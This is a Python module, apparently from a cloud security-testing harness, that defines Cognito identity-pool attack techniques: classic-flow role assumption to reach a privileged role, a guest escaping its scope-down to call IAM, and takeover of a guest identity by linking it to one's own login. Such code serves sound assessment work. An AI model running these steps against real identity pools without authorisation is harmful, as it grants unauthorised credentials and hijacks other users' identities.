"""Becoming more than the enhanced flow gives: the classic flow, and a guest's identity under one's own login."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING, Any

from harness.attacks.obtained import ObtainedCall
from harness.attacks.technique import Callers, Feature, Severity, Technique, Victim
from harness.blueprints.contract import Effect
from harness.errors import TargetError
from harness.sessions import web_identity_params
from harness.targets.api import ApiRequest

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from harness.attacks.aim import Aim
    from harness.attacks.technique import Sent, Step

_FLOW = "https://docs.aws.amazon.com/cognito/latest/developerguide/authentication-flow.html"
_SCOPE = "https://docs.aws.amazon.com/cognito/latest/developerguide/iam-roles.html"
# A call of a service that the enhanced flow does not leave to guests.
_OUT_OF_SCOPE = ApiRequest("iam", "ListRoles", {"MaxItems": 1})


def _pool(operation: str, **params: Any) -> ApiRequest:
    return ApiRequest("cognito-identity", operation, params)


def _logins(aim: Aim) -> dict[str, Any]:
    return {"Logins": {aim.deployment.provider: aim.id_token.reveal()}}


def _exchange(aim: Aim) -> tuple[ApiRequest, ...]:
    return (_pool("GetCredentialsForIdentity", IdentityId=aim.caller.identity_id, **_logins(aim), **aim.role_choice),)


def _assuming(role: str) -> Callable[[Mapping[str, Any]], ApiRequest]:
    return lambda answer: ApiRequest(
        "sts", "AssumeRoleWithWebIdentity", web_identity_params(role, answer["Token"], None)
    )


def _classic(aim: Aim) -> tuple[Step, ...]:
    token = _pool("GetOpenIdToken", IdentityId=aim.caller.identity_id, **_logins(aim))
    return (token, _assuming(aim.privileged_role or aim.role_of_tenants))


def _unscoped(aim: Aim) -> tuple[Step, ...]:
    token = _pool("GetOpenIdToken", IdentityId=aim.caller.identity_id)
    return (token, _assuming(aim.own_role), lambda answer: ObtainedCall.from_answer(answer, _OUT_OF_SCOPE))


def _linked(aim: Aim) -> tuple[Step, ...]:
    """Return the steps that name a guest's identity beside a login; both are new, and nobody has use of them after."""
    logins = {aim.deployment.provider: aim.tokens.of_a_newcomer(aim.caller).reveal()}
    guests: list[str] = []

    def link(answer: Mapping[str, Any]) -> ApiRequest:
        guests.append(answer["IdentityId"])
        return _pool("GetCredentialsForIdentity", IdentityId=answer["IdentityId"], Logins=logins)

    def use(answer: Mapping[str, Any]) -> Sent:
        if answer["IdentityId"] not in guests:
            raise TargetError("an identity came back that is not the guest's")
        return ObtainedCall.from_answer(answer, ApiRequest("sts", "GetCallerIdentity"))

    return (_pool("GetId", IdentityPoolId=aim.deployment.identity_pool), link, use)


_FLOWS = partial(
    Technique,
    plane="identity-pool",
    effect=Effect.SESSION,
    severity=Severity.BLOCKER,
    documentation=_FLOW,
    callers=Callers.MEMBERS,
    victim=Victim.NOBODY,
    control_steps=_exchange,
)

TECHNIQUES = (
    _FLOWS(
        id="identity-pool.session.classic-flow",
        title="GetOpenIdToken and AssumeRoleWithWebIdentity on a role of one's own choice: the staff's if there is one",
        operation="GetOpenIdToken",
        catalogue=("idp-classic-flow-enabled",),
        cwe=("CWE-269",),
        requires=frozenset({Feature.ENHANCED_FLOW, Feature.PERSONA_ROLE}),
        refusals=(r"Basic \(classic\) flow is not",),
        steps=_classic,
    ),
    _FLOWS(
        id="identity-pool.session.guest-sheds-scope-down",
        title="the same by a guest, whom the enhanced flow confines to a few services, then a call of another one",
        operation="GetOpenIdToken",
        documentation=_SCOPE,
        catalogue=("idp-classic-flow-skips-guest-scope-down",),
        cwe=("CWE-269",),
        requires=frozenset({Feature.GUESTS}),
        callers=Callers.GUESTS,
        refusals=(r"Basic \(classic\) flow is not",),
        actions=("iam:ListRoles",),
        steps=_unscoped,
        control_steps=lambda aim: (_pool("GetCredentialsForIdentity", IdentityId=aim.caller.identity_id),),
    ),
    _FLOWS(
        id="identity-pool.session.guest-linked-to-login",
        title="naming a guest's identity beside a login of one's own",
        operation="GetCredentialsForIdentity",
        catalogue=("idp-guest-takeover-by-linking",),
        cwe=("CWE-639",),
        requires=frozenset({Feature.GUESTS, Feature.ENHANCED_FLOW}),
        refusals=(r"Logins don't match\.",),
        destructive=True,
        steps=_linked,
    ),
)
